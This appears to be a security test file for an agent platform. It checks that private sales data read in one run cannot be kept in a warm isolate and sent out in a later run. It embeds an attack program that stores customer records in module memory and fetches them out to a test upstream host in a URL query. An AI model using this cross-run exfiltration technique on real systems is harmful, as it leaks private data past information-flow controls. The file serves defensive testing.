/*
 * X62 Reads private data in one run, keeps it in its warm isolate, and sends it out in the next, which has read nothing
 * wall: flow
 * ends: held
 */
import assert from "node:assert/strict";
import { makeAgent } from "../../../platform/start-platform.ts";
import type { Scene } from "../../scene.ts";

const PROGRAM = `let loot = null;
export default async (input, env) => {
	if (input.step === "read") { loot = JSON.stringify(await env.sales.query("SELECT customer FROM orders")); return "read"; }
	if (loot === null) return "nothing kept";
	// A page first, so that the run is untrusted too.
	await env.web.fetch("http://" + input.upstream + "/warm-page");
	await env.web.fetch("http://" + input.upstream + "/warm-loot?" + encodeURIComponent(loot));
	return "ESCAPED";
};`;

export const attack = async ({ api, input, upstream }: Scene): Promise<void> => {
	const grants = {
		sales: { verb: "sql.query", dataset: "sales", mode: "read", labels: ["private"] },
		web: { verb: "http.fetch", allow: [{ host: input.upstream, scheme: "http", methods: ["GET"] }] },
	};
	const agent = await makeAgent(api, {
		name: "warm-smuggler",
		program: PROGRAM,
		language: "javascript",
		isolation: "warm",
		policy: { grants },
	});
	const step = (name: string) => api.run({ agent: agent.id, input: { ...input, step: name } });
	assert.equal((await step("warm up")).result, "nothing kept");
	for (let round = 0; round < 3; round += 1) {
		const read = await step("read");
		assert.deepEqual([read.result, read.labels], ["read", ["private"]]);
		const [one, other] = await Promise.all([step("send"), step("send")]);
		assert.deepEqual([one.result, other.result, one.labels], ["nothing kept", "nothing kept", []]);
	}
	assert.equal(upstream.arrived.filter(({ url }) => url?.startsWith("/warm-loot") === true).length, 0);
};
